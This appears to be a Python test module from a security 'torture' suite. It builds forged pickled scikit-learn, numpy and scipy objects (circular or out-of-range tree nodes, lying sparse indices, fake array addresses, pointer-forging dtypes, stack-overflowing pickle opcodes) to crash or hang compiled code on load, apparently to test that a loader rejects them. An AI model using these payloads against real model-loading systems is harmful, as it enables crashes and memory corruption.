"""State that compiled code believes: indices, sizes, pointers."""

from __future__ import annotations

import struct
from copy import deepcopy
from functools import cache
from pathlib import Path
from typing import Any

import numpy as np
import scipy.sparse
from sklearn.cluster import KMeans
from sklearn.dummy import DummyClassifier
from sklearn.ensemble import (
    GradientBoostingClassifier, HistGradientBoostingClassifier, IsolationForest, RandomForestClassifier,
)  # fmt: skip
from scipy.interpolate import BSpline
from sklearn.linear_model import LogisticRegression
from sklearn.neighbors import KernelDensity, KNeighborsClassifier, RadiusNeighborsClassifier
from sklearn.preprocessing import FunctionTransformer, MinMaxScaler, SplineTransformer, StandardScaler
from sklearn.random_projection import SparseRandomProjection
from sklearn.svm import SVC, OneClassSVM
from sklearn.tree import DecisionTreeClassifier, DecisionTreeRegressor
from sklearn.utils import Bunch

from tests.torture.attacks.campaign import attack, probe
from tests.torture.attacks.kit import (
    array, arrays, before_a_model, called, chain, classifier, data, dumped, filled, inner, instance,
    items, mapping, named, number, poured, regressor, stack, text, whole,
)  # fmt: skip

THREE = "[0.1, 0.2, 0.3]"
FAR = 2**30


def _tree(change: Any, kind: type = DecisionTreeClassifier, **how: Any) -> Any:
    """A fitted tree whose nodes have been changed."""
    model = kind(max_depth=2, **how).fit(*arrays(200, 3))
    state = model.tree_.__getstate__()
    state["nodes"], state["values"] = state["nodes"].copy(), state["values"].copy()
    change(state)
    fresh = type(model.tree_)(3, model.tree_.n_classes, model.tree_.n_outputs)
    fresh.__setstate__(state)
    model.tree_ = fresh
    return model


# --- trees ---------------------------------------------------------------------------------------


@attack("A tree whose root is its own child.", "hang", ask=THREE)
def tree_in_a_circle(scratch: Path) -> bytes:
    def change(state: Any) -> None:
        state["nodes"]["left_child"][:] = 0
        state["nodes"]["right_child"][:] = 0

    return dumped(_tree(change))


@attack("A tree whose children lie far behind the nodes.", "crash", ask=THREE)
def tree_children_far(scratch: Path) -> bytes:
    def change(state: Any) -> None:
        state["nodes"]["left_child"][0] = FAR
        state["nodes"]["right_child"][0] = FAR

    return dumped(_tree(change))


@attack("A tree whose children lie before the nodes.", "crash", ask=THREE)
def tree_children_negative(scratch: Path) -> bytes:
    def change(state: Any) -> None:
        state["nodes"]["left_child"][0] = -FAR
        state["nodes"]["right_child"][0] = -FAR

    return dumped(_tree(change, DecisionTreeRegressor))


@attack("A tree that looks at a feature far beyond the row.", "crash", ask=THREE)
def tree_feature_far(scratch: Path) -> bytes:
    def change(state: Any) -> None:
        state["nodes"]["feature"][0] = FAR

    return dumped(_tree(change))


@attack("A forest, one of whose trees is forged.", "crash", ask=THREE)
def forest_with_a_forged_tree(scratch: Path) -> bytes:
    def change(state: Any) -> None:
        state["nodes"]["feature"][0] = -FAR

    model = RandomForestClassifier(3).fit(*arrays(200, 3))
    model.estimators_[1] = _tree(change)
    return dumped(model)


@attack("Boosted trees, where compiled code walks the nodes by itself.", "crash", ask=THREE)
def boosting_with_a_forged_tree(scratch: Path) -> bytes:
    def change(state: Any) -> None:
        state["nodes"]["left_child"][0] = FAR
        state["nodes"]["right_child"][0] = FAR

    model = GradientBoostingClassifier(n_estimators=2).fit(*arrays(200, 3))
    model.estimators_[0, 0] = _tree(change, DecisionTreeRegressor)
    return dumped(model)


@attack("Boosted trees that are fed rows of fewer columns than they look at.", "crash", ask="[0.5]")
def boosting_of_narrow_rows(scratch: Path) -> bytes:
    def change(state: Any) -> None:
        state["nodes"]["feature"][0] = FAR

    model = GradientBoostingClassifier(n_estimators=2).fit(*arrays(200, 3))
    model.estimators_[0, 0] = _tree(change, DecisionTreeRegressor)
    model.n_features_in_ = model.estimators_[0, 0].n_features_in_ = 1
    return dumped(model)


@attack("An isolation forest in a circle.", "hang", ask=THREE)
def isolation_in_a_circle(scratch: Path) -> bytes:
    model = IsolationForest(n_estimators=2).fit(arrays(200, 3)[0])
    state = model.estimators_[0].tree_.__getstate__()
    state["nodes"] = state["nodes"].copy()
    state["nodes"]["left_child"][:] = 0
    state["nodes"]["right_child"][:] = 0
    model.estimators_[0].tree_.__setstate__(state)
    return dumped(model)


@cache
def _boosted() -> HistGradientBoostingClassifier:
    return HistGradientBoostingClassifier(max_iter=2, min_samples_leaf=2).fit(*arrays(200, 3))


def _hist(change: Any) -> Any:
    model = deepcopy(_boosted())
    for row in model._predictors:
        for predictor in row:
            predictor.nodes = predictor.nodes.copy()
            change(predictor)
    return model


@attack("Histogram trees in a circle.", "hang", ask=THREE)
def hist_in_a_circle(scratch: Path) -> bytes:
    def change(predictor: Any) -> None:
        predictor.nodes["is_leaf"] = 0
        predictor.nodes["left"] = 0
        predictor.nodes["right"] = 0

    return dumped(_hist(change))


@attack("Histogram trees with a node far away.", "crash", ask=THREE)
def hist_children_far(scratch: Path) -> bytes:
    def change(predictor: Any) -> None:
        predictor.nodes["left"][0] = FAR
        predictor.nodes["right"][0] = FAR

    return dumped(_hist(change))


@attack("Histogram trees that split by a category whose bits lie far away.", "crash", ask=THREE)
def hist_bitset_far(scratch: Path) -> bytes:
    def change(predictor: Any) -> None:
        predictor.nodes["is_categorical"] = 1
        predictor.nodes["bitset_idx"] = FAR

    return dumped(_hist(change))


@attack("Histogram trees whose nodes are an empty array.", "crash", ask=THREE)
def hist_without_nodes(scratch: Path) -> bytes:
    def change(predictor: Any) -> None:
        predictor.nodes["feature_idx"] = FAR

    return dumped(_hist(change))


# --- sparse matrices ------------------------------------------------------------------------------


def _forged_matrix(shape: tuple[int, int], index: int) -> Any:
    made = scipy.sparse.csr_matrix(np.ones(shape))
    made.indices = np.full(len(made.indices), index, dtype=np.int32)
    return made


@attack("Sparse coefficients with columns far beyond: a product writes there.", "crash", ask=THREE)
def sparse_coefficients(scratch: Path) -> bytes:
    model = LogisticRegression().fit(arrays(50, 3)[0], np.arange(50) % 3)
    model.coef_ = _forged_matrix((3, 3), FAR)
    return dumped(model)


@attack("A sparse random projection with columns far beyond.", "crash", ask=THREE)
def sparse_projection(scratch: Path) -> bytes:
    model = SparseRandomProjection(2, dense_output=True).fit(arrays(50, 3)[0])
    model.components_ = _forged_matrix((2, 3), FAR)
    return dumped(chain(model, classifier(2)))


@attack("Sparse training data of neighbours whose row pointers lie.", "crash", ask=THREE)
def sparse_neighbours(scratch: Path) -> bytes:
    grid, labels = arrays(50, 3)
    model = KNeighborsClassifier(algorithm="brute").fit(scipy.sparse.csr_matrix(grid), labels)
    model._fit_X.indptr = model._fit_X.indptr.copy()
    model._fit_X.indptr[1:-1] = FAR
    return dumped(model)


@attack("Sparse support vectors with columns far beyond.", "crash", ask="good thing", kind="text")
def sparse_support_vectors(scratch: Path) -> bytes:
    from sklearn.feature_extraction.text import TfidfVectorizer

    words = ["good thing", "bad thing", "good", "bad"]
    vectors = TfidfVectorizer().fit(words)
    model = SVC(kernel="linear").fit(vectors.transform(words), ["p", "n", "p", "n"])
    model.support_vectors_.indptr = model.support_vectors_.indptr.copy()
    model.support_vectors_.indptr[1:] = FAR
    return dumped(chain(vectors, model))


# --- support vectors, neighbours, splines ---------------------------------------------------------


@attack("Numbers of support vectors that are right in sum, and wrong one by one.", "crash", ask=THREE)
def support_counted_wrongly(scratch: Path) -> bytes:
    model = SVC().fit(*arrays(60, 3))
    vectors = len(model.support_vectors_)
    model._n_support = np.array([vectors + FAR, -FAR], dtype=np.int32)
    return dumped(model)


@attack("A one-class machine with one coefficient for eight million vectors.", "crash")
def support_without_coefficients(scratch: Path) -> bytes:
    model = OneClassSVM().fit(arrays(60)[0])
    count = 8_000_000
    model.support_vectors_ = np.zeros((count, 1))
    model.support_ = np.zeros(count, dtype=np.int32)
    model._n_support = np.array([count, 0], dtype=np.int32)
    model._dual_coef_ = np.ones((1, 1))
    return dumped(model, compress=1)


@attack("A support vector machine with the intercept of two classes and 30,000 classes.", "crash", ask=THREE)
def support_of_many_classes(scratch: Path) -> bytes:
    model = SVC().fit(*arrays(60, 3))
    counts = np.zeros(30_000, dtype=np.int32)
    counts[0] = len(model.support_vectors_)
    model._n_support, model.classes_ = counts, np.arange(30_000)
    return dumped(model)


def _neighbours(kind: str, change: Any) -> Any:
    model = KNeighborsClassifier(3, algorithm=kind).fit(*arrays(100, 3))
    state = list(model._tree.__getstate__())
    change(state)
    model._tree.__setstate__(tuple(state))
    return model


def _far_indices(state: list[Any]) -> None:
    state[1] = np.asarray(state[1]).copy()
    state[1][:] = 2**50


def _few_bounds(state: list[Any]) -> None:
    state[3] = np.zeros((1, 1, 3))


def _many_levels(state: list[Any]) -> None:
    state[5:8] = [2, 30, 2**30]


def _leaves_far(state: list[Any]) -> None:
    nodes = np.asarray(state[2]).copy()
    nodes["idx_end"] = 2**40
    state[2] = nodes


@attack("A k-d tree whose indices lie far beyond its data.", "crash", ask=THREE)
def kd_indices(scratch: Path) -> bytes:
    return dumped(_neighbours("kd_tree", _far_indices))


@attack("A ball tree whose indices lie far beyond its data.", "crash", ask=THREE)
def ball_indices(scratch: Path) -> bytes:
    return dumped(_neighbours("ball_tree", _far_indices))


@attack("A k-d tree whose leaves end far away.", "crash", ask=THREE)
def kd_leaves(scratch: Path) -> bytes:
    return dumped(_neighbours("kd_tree", _leaves_far))


@attack("A ball tree with more nodes than it has.", "crash", ask=THREE)
def ball_levels(scratch: Path) -> bytes:
    def change(state: list[Any]) -> None:
        nodes = np.asarray(state[2]).copy()
        nodes["is_leaf"] = 0
        state[2] = nodes

    return dumped(_neighbours("ball_tree", change))


@attack("Neighbours by brute force whose labels are indices into the counts.", "crash", ask=THREE)
def labels_of_neighbours(scratch: Path) -> bytes:
    model = KNeighborsClassifier(3, algorithm="brute", metric="manhattan").fit(*arrays(100, 3))
    model._y = np.full(100, 2**40, dtype=np.int64)
    return dumped(chain(StandardScaler().fit(arrays(100, 3)[0]), model))


@attack("Neighbours within a radius, the same.", "crash", ask=THREE)
def labels_within_a_radius(scratch: Path) -> bytes:
    model = RadiusNeighborsClassifier(5.0, algorithm="brute", metric="manhattan").fit(*arrays(100, 3))
    model._y = np.full(100, -(2**40), dtype=np.int64)
    return dumped(chain(StandardScaler().fit(arrays(100, 3)[0]), model))


@attack("A kernel density whose tree is forged.", "crash", ask=THREE)
def density(scratch: Path) -> bytes:
    model = KernelDensity(algorithm="kd_tree").fit(arrays(100, 3)[0])
    state = list(model.tree_.__getstate__())
    _leaves_far(state)
    _far_indices(state)
    model.tree_.__setstate__(tuple(state))
    return dumped(stack([model], ["score_samples"]))


@probe("A k-d tree that was made empty and never filled.", "crash")
def kd_never_filled(scratch: Path) -> bytes:
    model = KNeighborsClassifier(3, algorithm="kd_tree").fit(*arrays(100))
    from sklearn.neighbors import KDTree

    state = model.__getstate__() | {"_tree": KDTree.__new__(KDTree)}
    del state["_tree"]
    entries = b"".join(text(key) + inner(value) for key, value in state.items())
    empty = called(named("sklearn.neighbors._kd_tree", "newObj"), named("sklearn.neighbors._kd_tree", "KDTree"))
    return whole(
        instance(
            "sklearn.neighbors._classification", "KNeighborsClassifier",
            b"}(" + entries + text("_tree") + empty + b"u",
        )
    )  # fmt: skip


def _spline(knots: int, coefficients: tuple[int, int], degree: int) -> FunctionTransformer:
    made = filled(BSpline, extrapolate=True, axis=0, k=degree)
    made.__dict__.update(_t=np.arange(float(knots)), _c=np.ones(coefficients))
    for name in ("_asarray", "_xp"):
        made.__dict__.setdefault(name, None)
    return FunctionTransformer(made)


@attack("A spline as the function of a step: many knots, one row of coefficients.", "crash", ask="[90000.5]")
def spline_coefficients(scratch: Path) -> bytes:
    honest = BSpline(np.arange(100_000.0), np.ones((99_996, 1)), 3)
    state = dict(honest.__dict__)
    made = filled(BSpline, **state)
    made._c = np.ones((1, 5000))
    return dumped(chain(FunctionTransformer(made), classifier(1)))


@attack("A spline transformer's spline, the same.", "crash", ask="[90000.5]")
def spline_of_a_transformer(scratch: Path) -> bytes:
    model = SplineTransformer(extrapolation="continue").fit([[0.0], [100_000.0], [50_000.0]])
    spline = model.bsplines_[0]
    spline._t = np.arange(100_000.0)
    spline._c = np.ones((1, 5000))
    return dumped(chain(model, classifier(7)))


# --- pointers ------------------------------------------------------------------------------------


@attack("An object of the state says that it is an array at address 4096.", "crash")
def array_at_an_address(scratch: Path) -> bytes:
    """numpy looks `__array_interface__` up on the instance: `Bunch` gives what it is told to."""
    model = MinMaxScaler().fit([[0.0], [1.0]])
    model.min_ = Bunch(__array_interface__=_at(4096))
    return dumped(chain(model, classifier()))


def _at(address: int) -> dict[str, Any]:
    return {"data": (address, False), "shape": (1,), "typestr": "<f8", "version": 3}


@attack("The same by an estimator's own dictionary: no `Bunch` is needed.", "crash")
def estimator_at_an_address(scratch: Path) -> bytes:
    model = regressor()
    forged = classifier()
    forged.__dict__["__array_interface__"] = _at(8192)
    model.intercept_ = forged
    return dumped(model)


@attack("A record type whose field is an object, while its flags deny it: bytes become a pointer.", "crash")
def bytes_as_a_pointer(scratch: Path) -> bytes:
    fields = b"}" + text("a") + items(inner(np.dtype("O")), number(0)) + b"s"
    forged = called(named("numpy", "dtype"), text("V8"), b"\x89", b"\x88") + items(
        number(3), text("|"), b"N", items(text("a")), fields, number(8), number(1), number(0)
    ) + b"b"  # fmt: skip
    forged_array = array(forged, (2,), data(struct.pack("<QQ", 4096, 4096)))
    return _as_classes(forged_array)


@attack("A field that lies beyond its record.", "crash")
def field_beyond_the_record(scratch: Path) -> bytes:
    fields = b"}" + text("a") + items(inner(np.dtype("O")), number(2**30)) + b"s"
    forged = called(named("numpy", "dtype"), text("V8"), b"\x89", b"\x88") + items(
        number(3), text("|"), b"N", items(text("a")), fields, number(8), number(1), number(0)
    ) + b"b"  # fmt: skip
    return _as_classes(array(forged, (2,), data(bytes(16))))


@attack("A scalar of the forged record type.", "crash")
def scalar_as_a_pointer(scratch: Path) -> bytes:
    fields = b"}" + text("a") + items(inner(np.dtype("O")), number(0)) + b"s"
    forged = called(named("numpy", "dtype"), text("V8"), b"\x89", b"\x88") + items(
        number(3), text("|"), b"N", items(text("a")), fields, number(8), number(1), number(0)
    ) + b"b"  # fmt: skip
    scalar = called(
        named("numpy._core.multiarray", "scalar"), forged, data(struct.pack("<Q", 4096))
    )
    state = DummyClassifier(strategy="prior").fit([[0.0], [1.0]], ["no", "yes"]).__getstate__()
    del state["classes_"]
    entries = b"".join(text(key) + inner(value) for key, value in state.items())
    body = b"}(" + entries + text("classes_") + b"](" + scalar + scalar + b"eu"
    return whole(instance("sklearn.dummy", "DummyClassifier", body))


def _as_classes(code: bytes) -> bytes:
    """A classifier whose labels are this; a label is printed."""
    return _with(code, "classes_")


def _with(code: bytes, attribute: str) -> bytes:
    state = classifier().__getstate__()
    del state[attribute]
    entries = b"".join(text(key) + inner(value) for key, value in state.items())
    body = b"}(" + entries + text(attribute) + code + b"u"
    return whole(instance("sklearn.linear_model._logistic", "LogisticRegression", body))


@probe("A million threads for a clustering.", "crash")
def threads_without_number(scratch: Path) -> bytes:
    model = KMeans(2, n_init=1).fit([[0.0], [1.0]])
    model._n_threads = 2_000_000
    return dumped(stack([chain(poured(np.ones((2000, 1))), model)], ["predict"]))


@attack("A function on the list, asked for a million threads.", "crash")
def function_of_threads(scratch: Path) -> bytes:
    from sklearn.cluster._kmeans import _kmeans_single_lloyd

    step = FunctionTransformer(
        _kmeans_single_lloyd,
        kw_args={
            "sample_weight": np.ones(300), "centers_init": np.ones((2, 2)), "max_iter": 3,
            "verbose": False, "tol": 0.0, "n_threads": 2_000_000,
        },
    )  # fmt: skip
    return dumped(chain(poured(np.ones((300, 2))), step, classifier(2)))


@attack("A random state whose position lies far behind its key.", "crash")
def random_position(scratch: Path) -> bytes:
    model = DummyClassifier(strategy="stratified").fit([[0.0], [1.0]], ["no", "yes"])
    state = np.random.RandomState(0)
    kept = state.__reduce__()[1][0]
    forged = kept.state
    forged["state"]["pos"] = 2**30
    kept.state = forged
    model.random_state = state
    return dumped(model)


@attack("Slices within slices within slices: taking them apart overflows the stack.", "crash")
def slices_within_slices(scratch: Path) -> bytes:
    depth = 350_000
    one = named("builtins", "slice") + kept_at(5000) + b"0N"
    body = one + (kept_at(5001) + b"0" + again_at(5000) + b"(" + again_at(5001) + b"NNtR") * depth
    return before_a_model(body)


def kept_at(slot: int) -> bytes:
    return b"r" + struct.pack("<I", slot)


def again_at(slot: int) -> bytes:
    return b"j" + struct.pack("<I", slot)


@attack("A tuple of 300,000 tuples as a key: its hash overflows the stack.", "crash")
def tuples_as_a_key(scratch: Path) -> bytes:
    return before_a_model(b"})" + b"\x85" * 300_000 + number(1) + b"s")


@attack("Arrays of objects within arrays of objects: taking them apart overflows the stack.", "crash")
def arrays_within_arrays(scratch: Path) -> bytes:
    depth = 25_000
    empty = called(
        named("numpy._core.multiarray", "_reconstruct"), named("numpy", "ndarray"),
        items(number(0)), b"C\x01b",
    )  # fmt: skip
    kind = inner(np.dtype("O")) + kept_at(5003) + b"0"
    one = (
        kept_at(5001) + b"0" + again_at(5000)
        + items(again_at(5004), again_at(5005), b"C\x01b") + b"R"
        + items(number(1), again_at(5006), again_at(5003), b"\x89", b"](" + again_at(5001) + b"e")
        + b"b"
    )  # fmt: skip
    named_once = (
        named("numpy._core.multiarray", "_reconstruct") + kept_at(5000) + b"0"
        + named("numpy", "ndarray") + kept_at(5004) + b"0"
        + items(number(0)) + kept_at(5005) + b"0" + items(number(1)) + kept_at(5006) + b"0"
    )  # fmt: skip
    return before_a_model(kind + named_once + empty + one * depth)


@probe("A negative shape, and one of more bytes than there are.", "crash")
def shape_beyond(scratch: Path) -> bytes:
    return _as_classes(array(inner(np.dtype("<f8")), (-1,), data(bytes(8))))



